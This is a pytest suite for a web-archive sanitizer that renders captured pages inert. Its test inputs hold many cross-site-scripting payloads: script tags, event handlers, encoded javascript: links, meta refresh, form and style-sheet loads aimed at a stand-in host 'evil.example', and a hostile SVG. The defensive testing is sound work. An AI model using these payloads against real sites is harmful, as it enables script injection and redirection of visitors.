"""Hostile captured pages: what was written can be read, and nothing runs, loads or leads away."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from lxml import html

from archive.proof.parts import type_of
from archive.proof.still_page import (
    ATTRIBUTES,
    ELEMENTS,
    SANDBOX,
    parts_of,
    still_page,
    targets_of,
)
from archive.proof.still_styles import still_declarations, still_rules

URL = "https://www.example.test/en/x.htm"
HELD = {"https://www.example.test/en/held.htm": "/-/capture/1"}
LOADING = (
    r"(?i)(?<![\w-])(?:url|src|expression|(?:-webkit-)?image-set)\(|@import(?![\w\x80-\U0010ffff-])"
    r"|(?<![\w-])behavior(?![\w-])"
)
"""What loads or runs in a style sheet; longer words that begin or end like it do not."""
PART = "/-/capture/2/part"
HELD_RULES = re.compile(rf'(@import )?url\("{PART}(?:#[\w%;&,=/.-]*)?"\)')
"""What may load: only what is served here."""
STRING = re.compile(r'"(?:[^"\\\n]|\\.)*"')
"""Closed on the same line: nothing in it loads. An open one is left to be found."""
OURS = {"html", "head", "meta", "style", "body", "link"}


def dangers(page: str) -> list[str]:
    """Everything that is not expected of a still page."""
    found = []
    for element in html.document_fromstring(page).iter():
        if not isinstance(element.tag, str):
            found.append("comment or instruction")
            continue
        is_framed = element.tag == "iframe" and {"srcdoc", "sandbox"} <= set(element.attrib)
        if element.tag not in ELEMENTS | OURS and not is_framed:
            found.append(f"<{element.tag}>")
        if element.tag == "meta" and element.get("http-equiv"):
            found.append("http-equiv")
        for name, value in element.attrib.items():
            links = name == "href" and re.match(r"https?://|#|/-/capture/", value)
            known = name in ATTRIBUTES | {"style", "target", "rel", "charset", "content", "media"}
            loads = name in ("src", "href", "background") and value.partition("#")[0] == PART
            inline = name == "src" and value.startswith("data:image/gif;base64,")
            if element.tag == "iframe" and name == "srcdoc":
                found += dangers(value)
            elif element.tag == "iframe" and name == "sandbox" and value == SANDBOX:
                continue
            elif not (links or known or loads or inline):
                found.append(f"{name}={value}")
        css = (element.text or "") if element.tag == "style" else element.get("style", "")
        css = STRING.sub('""', HELD_RULES.sub("held", css))
        if re.search(LOADING, css):
            found.append(css)
    return found


HOSTILE = [
    ("script", "<script>alert(1)</script>x", "x"),
    ("script in capitals, never closed", "x<SCRIPT>alert(1)", "x"),
    ("event handlers", "<p onclick=alert(1) ONLOAD='x'>x</p>", "x"),
    ("event handler on body", "<body onload=alert(1)>x", "x"),
    ("javascript link", "<a href='javascript:alert(1)'>x</a>", "x"),
    ("the same behind references", "<a href='&#106;ava&#x73;cript&colon;alert(1)'>x</a>", "x"),
    ("the same with blanks", "<a href=' java\tscript:alert(1)'>x</a>", "x"),
    ("data link", "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "x"),
    ("refresh", "<meta http-equiv=refresh content='0;url=https://evil.example/'>x", "x"),
    ("policy of its own", "<meta http-equiv=content-security-policy content=''>x", "x"),
    ("base with target", "<base href='https://evil.example/' target=_top>x", "x"),
    ("form", "<form action=https://evil.example/><input name=a><button>x</button></form>", "x"),
    ("image", "<img src=https://evil.example/i.png onerror=alert(1) alt=x>y", "y"),
    ("srcset, poster and the like", "<img srcset='a 2x' lowsrc=a><video poster=a>y</video>x",
     "x"),
    ("background", "<body background=https://evil.example/i.png>x", "x"),
    ("svg", "<svg onload=alert(1)><animate attributeName=href values=javascript:x />x</svg>",
     "x"),
    ("svg with use", "<svg><use href='data:image/svg+xml,x#y'/></svg>x", "x"),
    ("math", "<math><mi xlink:href=javascript:alert(1)>x</mi></math>", "x"),
    ("a title within svg", "<svg><title><img src=x onerror=alert(1)></title></svg>x", "x"),
    ("style within svg", "<svg><style><img src=x onerror=alert(1)></style></svg>x", "x"),
    ("noscript", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>x</noscript>", "x"),
    ("a frame", "<iframe src=https://evil.example/></iframe>x", "x"),
    ("a frame of script",
     "<iframe src=javascript:alert(1) srcdoc='<script>alert(1)</script>'>y</iframe>x", "x"),
    ("a frame in a frame in the page",
     "<iframe srcdoc=\"<img src=x onerror=alert(1)><iframe srcdoc='<script>1</script>'>\">"
     "</iframe>x", "x"),
    ("object", "<object data=javascript:alert(1)>y</object>x<embed src=x.swf>", "x"),
    ("link and style sheet", "<link rel=stylesheet href=https://evil.example/x.css>x", "x"),
    ("import", "<style>@import url(https://evil.example/x.css); p { color: red }</style>x", "x"),
    ("import as text", "<style>@import 'https://evil.example/x.css';</style>x", "x"),
    ("load by rule", "<style>p { background: URL( 'https://evil.example/x' ) }</style>x", "x"),
    ("load by rule, escaped", "<style>p { background: \\75rl(//evil.example/x) }</style>x", "x"),
    ("font", "<style>@font-face { font-family: a; src: url(https://evil.example/) }</style>x", "x"),
    ("rule in the style attribute", "<p style=\"background:url('//evil.example/x')\">x</p>", "x"),
    ("expression", "<p style='width: expression(alert(1)); behavior: url(x.htc)'>x</p>", "x"),
    ("style that ends itself", "<style>a::before { content: '</st' 'yle><script>' }</style>x", "x"),
    ("comment that ends early", "<!--><script>alert(1)</script>-->x", "-->x"),
    ("comment within", "<!-- <script>alert(1)</script> -->x", "x"),
    ("conditional comment", "<!--[if IE]><script>alert(1)</script><![endif]-->x", "x"),
    ("character data", "<![CDATA[<script>alert(1)</script>]]>x", "]]>x"),
    ("template", "<template><script>alert(1)</script></template>x", "x"),
    ("quotes in a value", "<p title='\"><script>alert(1)</script>'>x</p>", "x"),
    ("tags as text", "&lt;script&gt;alert(1)&lt;/script&gt;", "<script>alert(1)</script>"),
    ("plaintext", "x<plaintext><script>y</script>", "x"),
    ("custom element", "<x-y onclick=alert(1)>x</x-y>", "x"),
    ("ping", "<a href=/x ping=https://evil.example/ download>x</a>", "x"),
    ("nul", "<scr\0ipt>alert(1)</scr\0ipt>x", "alert(1)x"),
]  # fmt: skip


def all_held(source: str) -> dict[str, str]:
    """Every part of a page, as if it were held."""
    return dict.fromkeys(parts_of(source, URL), PART)


@pytest.mark.parametrize(("why", "source", "text"), HOSTILE)
@pytest.mark.parametrize("is_whole", [False, True], ids=["alone", "with its parts"])
def test_nothing_dangerous_comes_through(why: str, source: str, text: str, is_whole: bool) -> None:
    page = still_page(source, URL, HELD, all_held(source) if is_whole else {})
    assert dangers(page) == [], why
    shown = html.document_fromstring(page).text_content()
    assert text in shown, why
    assert "evil" not in page or "rel=" in page, "only as a link that somebody has to follow"


LOADED = [
    ("picture", "<img src=i.png alt=x>", f'<img src="{PART}">'),
    ("picture with a set", "<img srcset='a.png 1x, i.png 2x'>", f'<img src="{PART}">'),
    ("late picture", "<img src=data:image/gif;base64,AA data-src=i.png>", f'<img src="{PART}">'),
    ("late picture of another library", "<img src=data:image/gif;base64,AA data-lazy-src=i.png>",
     f'<img src="{PART}">'),
    ("in the page itself", "<img src='data:image/gif;base64,AA'>",
     '<img src="data:image/gif;base64,AA">'),
    ("the number of a slide", "<img src=data:image/gif;base64,AA data-original=slide-2>",
     '<img src="data:image/gif;base64,AA">'),
    ("a late picture we do not hold", "<img src=data:image/gif;base64,AA data-src=/other.png>",
     '<img src="data:image/gif;base64,AA">'),
    ("late picture of a third", "<img src=data:image/gif;base64,AA data-original=i.png>",
     f'<img src="{PART}">'),
    ("no picture we hold", "<img src=/other.png>", "<img>"),
    ("an SVG in the page itself", "<img src='data:image/svg+xml,x'>", "<img>"),
    ("poster", "<video poster=i.png onerror=x>", f'<img src="{PART}" alt="film">'),
    ("background", "<td background=i.png>", f'<td background="{PART}">'),
    ("style sheet", "<link rel=stylesheet href=i.png media=print onload=x>",
     f'<link rel="stylesheet" href="{PART}" media="print">'),
    ("another look", "<link rel='alternate stylesheet' href=i.png>", ""),
    ("no style sheet", "<link rel=icon href=i.png>", ""),
    ("script", "<script src=i.png></script>", ""),
    ("style", "<p style='background: url(i.png#a)'>",
     f'<p style="background: url(&quot;{PART}#a&quot;)">'),
]  # fmt: skip


@pytest.mark.parametrize(("why", "source", "expected"), LOADED)
def test_what_is_held_is_shown(why: str, source: str, expected: str) -> None:
    page = still_page(source, URL, {}, {"https://www.example.test/en/i.png": PART})
    assert page.partition("</head>")[2].replace(' alt="x"', "") == expected, why


def test_the_picture_of_the_page_goes_before_what_may_be_a_larger_one() -> None:
    held = {f"https://www.example.test/en/{name}.png": f"/-/{name}" for name in ("own", "large")}
    body = still_page("<img src=own.png data-original=large.png>", URL, {}, held)
    assert body.endswith('<img src="/-/own">')


LINKS = [
    ("held here", "<a href=held.htm>x</a>", {"href": "/-/capture/1", "target": "_top"}),
    ("held, with a place", "<a href='held.htm#é&q'>x</a>",
     {"href": "/-/capture/1?place=%25C3%25A9%26q", "target": "_top"}),
    ("within the page", "<a href='#q'>x</a>", {"href": "#q"}),
    ("within the page, spelled out", "<a href='/en/x.htm#q'>x</a>", {"href": "#q"}),
    (
        "not held",
        "<a href=/other.htm>x</a>",
        {
            "href": "https://www.example.test/other.htm",
            "target": "_top",
            "rel": "nofollow noreferrer external",
        },
    ),
    ("by its own base", "<base href=/en/sub/><a href=../held.htm>x</a>",
     {"href": "/-/capture/1", "target": "_top"}),
    ("mail", "<a href=mailto:a@b.example>x</a>", {}),
    ("nonsense", "<a href='http://[::1'>x</a>", {}),
]  # fmt: skip


@pytest.mark.parametrize(("why", "source", "expected"), LINKS)
def test_links(why: str, source: str, expected: dict[str, str]) -> None:
    link = html.document_fromstring(still_page(source, URL, HELD)).find(".//a")
    assert dict(link.attrib) == expected, why


# What stands in the body of the still page.
SEEN = [
    ("a template", "<template><p>NEVER {{ price }}</p><a href=/x>t</a></template>x", "x"),
    ("one within another", "<template><template>a</template>b</template>x", "x"),
    ("a shadow tree is drawn", "<template shadowrootmode=open><p>a</p></template>", "<p>a</p>"),
    ("a template that never ends", "x<template>a</div>b", "x"),
    ("scripts do not run, so this is drawn", "<noscript>a</noscript>", "a"),
    ("a closed dialog stays closed", "<dialog>a</dialog>", "<dialog>a</dialog>"),
    ("an open one", "<dialog open>a</dialog>", '<dialog open="">a</dialog>'),
    ("a popover stays closed", "<div popover>a</div>", '<div popover="">a</div>'),
    ("hidden", "<div hidden>a</div>", '<div hidden="">a</div>'),
    ("details", "<details><summary>a</summary>b</details>",
     "<details><summary>a</summary>b</details>"),
    ("a choice shows one of its options", "<select name=s><option selected>a<option>b</select>",
     '<select name="s"><option selected="">a<option>b</select>'),
    ("suggestions", "<datalist id=d><option>a</datalist>x", "x"),
    ("what was typed", "<textarea>a &lt;b> <c></textarea>",
     "<textarea>a &lt;b&gt; &lt;c&gt;</textarea>"),
    ("fields and buttons", "<form action=/f><input value=v><button>Send</button></form>",
     '<input value="v"><button>Send</button>'),
    ("in place of a film", "<video src=v><p>No video</p></video>x", "x"),
    ("in place of a sound", "<audio>No sound</audio>x", "x"),
    ("in place of a drawing", "<div><canvas>a</div>x", "<div></div>x"),
    ("in place of data", "<object data=/a.pdf>a</object>x",
     '<p>[<a href="https://www.example.test/a.pdf" target="_top" '
     'rel="nofollow noreferrer external">https://www.example.test/a.pdf</a>]</p>x'),
    ("an object without data is its content", "<object>a</object>", "a"),
    ("for browsers without frames", "<noframes>a</noframes><noembed>b</noembed>x", "x"),
    ("notes of a drawing", "<svg><title>a</title><desc>b</desc><defs><text>c</text></defs>"
     "<symbol/><text>d</text></svg>", "d"),
    ("a formula written twice", "<math><mi>x</mi><annotation>\\x</annotation></math>", "x"),
    ("ruby", "<ruby>a<rp>(</rp><rt>b</rt></ruby>", "<ruby>a<rp></rp><rt>b</rt></ruby>"),
    ("as it is typed", "<xmp><b>a</b></xmp>", "<pre>&lt;b&gt;a&lt;/b&gt;</pre>"),
    ("a page in the page", "<iframe srcdoc='&lt;p>a&lt;/p>' width=9></iframe>",
     '<iframe width="9" sandbox="allow-top-navigation-by-user-activation" srcdoc="…&lt;p&gt;'
     'a&lt;/p&gt;"></iframe>'),
    ("a frame of nothing", "<iframe></iframe><iframe src=''></iframe>x", "x"),
]  # fmt: skip


@pytest.mark.parametrize(("why", "source", "expected"), SEEN, ids=[row[0] for row in SEEN])
def test_a_reader_sees_what_readers_saw(why: str, source: str, expected: str) -> None:
    body = still_page(source, URL, {}).partition("</head>")[2]
    assert re.sub(r"&lt;html.*?/head&gt;", "…", body) == expected


def test_a_page_in_the_page_has_its_links_and_parts() -> None:
    source = "<iframe srcdoc='<a href=held.htm><img src=i.png>'></iframe>"
    assert targets_of(source, URL) == ["https://www.example.test/en/held.htm"]
    assert parts_of(source, URL) == ["https://www.example.test/en/i.png"]


def test_frames_become_links() -> None:
    source = "<frameset><frame src=held.htm name=main></frameset>"
    link = html.document_fromstring(still_page(source, URL, HELD)).find(".//a")
    assert link.get("href") == "/-/capture/1"
    assert link.text == "main"


def test_targets_are_resolved_once_each() -> None:
    source = "<base href=/a/><a href=b#c><a href=b><a href=javascript:x><iframe src=f></iframe>"
    assert targets_of(source, URL) == [
        "https://www.example.test/a/b",
        "https://www.example.test/a/f",
    ]


def test_plain_text_is_shown_as_it_is() -> None:
    page = still_page("<script>alert(1)</script>\n  a & b", URL, {}, is_plain=True)
    assert html.document_fromstring(page).find(".//pre").text == (
        "<script>alert(1)</script>\n  a & b"
    )


STYLES = [
    ("kept", "p > a { color: red; margin: 0 auto !important }",
     "p > a { color: red; margin: 0 auto !important }"),
    ("media", "@media print { a { color: red } }", "@media print { a { color: red } }"),
    ("import", "@import 'x.css'; a {}", " a {}"),
    ("url", "a { background: url(x) no-repeat }", "a { background: none no-repeat }"),
    ("image-set", "a { background: image-set('x' 1x) }", "a { background: none }"),
    ("comments", "a/**/{ color/*x*/: red }", "a{ color: red }"),
    ("too deep", "(" * 50, ""),
    ("a string left open", "'url(", '"url("'),
    ("one that ends in a quotation mark", r'"x\"', r'"x\""'),
]  # fmt: skip


@pytest.mark.parametrize(("why", "css", "expected"), STYLES)
def test_styles(why: str, css: str, expected: str) -> None:
    assert still_rules(css) == expected, why


HELD_STYLES = [
    ("url", "a { background: url(x) }", 'a { background: url("/p/x") }'),
    ("url of a string", "a { background: URL( 'x' ) }", 'a { background: url("/p/x") }'),
    ("not held", "a { background: url(no) }", "a { background: none }"),
    ("import", "@import 'x' print; a {}", '@import url("/p/x") print; a {}'),
    ("import that is not held", "@import url(no); a {}", " a {}"),
    ("import without an end", "@import 'x'", ""),
    ("import of a block", "@import 'x' { } a {}", " a {}"),
    ("import of nothing", "@import ; a {}", " a {}"),
    ("font", "@font-face { font-family: a; src: url(x) format('woff2') }",
     '@font-face { font-family: a; src: url("/p/x") format("woff2") }'),
    ("font without a block", "@font-face url(x); a {}", " a {}"),
    ("quotes", "a { background: url('x\"') }", 'a { background: url("/p/x%22") }'),
    ("within a rule", "@media print { a { background: url(x) } }",
     '@media print { a { background: url("/p/x") } }'),
]  # fmt: skip


@pytest.mark.parametrize(("why", "css", "expected"), HELD_STYLES)
def test_styles_load_what_is_held(why: str, css: str, expected: str) -> None:
    assert still_rules(css, lambda x: "" if x == "no" else f"/p/{x}") == expected, why


TYPES = [
    ("PNG under a false name", b"\x89PNG\r\n\x1a\n", "text/html", "image/png"),
    ("SVG", b"<?xml version='1.0'?><!-- x -->\n<svg xmlns='x'>", "text/plain", "image/svg+xml"),
    ("HTML that holds SVG", b"<p><svg></svg>", "image/svg+xml", ""),
    ("HTML as a picture", b"<html><script>", "image/png", ""),
    ("script", b"alert(1)", "text/javascript", ""),
    ("style sheet", b"a {}", "text/css", "text/css"),
    ("HTML as a style sheet is one, of no rules", b"<html>", "text/css", "text/css"),
    ("font", b"wOF2....", "application/octet-stream", "font/woff2"),
    ("XML", b"<?xml version='1.0'?><x><svg/></x>", "text/xml", ""),
]


@pytest.mark.parametrize(("why", "body", "declared", "expected"), TYPES)
def test_parts_are_what_their_bytes_say(
    why: str, body: bytes, declared: str, expected: str
) -> None:
    assert type_of(body, declared) == expected, why


def test_style_attributes() -> None:
    assert still_declarations("color: red; background: url(x)") == "color: red; background: none"


HOSTILE_SVG = (
    "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(2)</script>"
    "<image href='https://evil.example/x'/><a href='javascript:alert(3)'><text>x</text></a></svg>"
)
"""A picture that would do anything if it were opened as a document of its own."""


PARTS = st.sampled_from([
    "<script>", "</script>", "<style>", "</style>", "<svg>", "</svg>", "<p ", "onclick=x", ">", "'",
    '"', "=", "<a href=", "javascript:x", "<!--", "-->", "<title>", "</title>", "url(", ")", "<",
    "/", "&lt;", "&#60;", "\\", "@import", "{", "}", " ", "x", "\0", "<textarea>", "<math>",
    "<img src=", "<link rel=stylesheet href=", "@font-face", "background=", ";", "srcset=", ",",
])  # fmt: skip


@given(st.lists(PARTS, max_size=30))
@example(["<style>", "url(", "&#60;"])
@example(["<style>", "@import", "\0"])
def test_no_mixture_is_dangerous(parts: list[str]) -> None:
    source = "".join(parts)
    assert dangers(still_page(source, URL, HELD)) == []
    assert dangers(still_page(source, URL, HELD, all_held(source))) == []
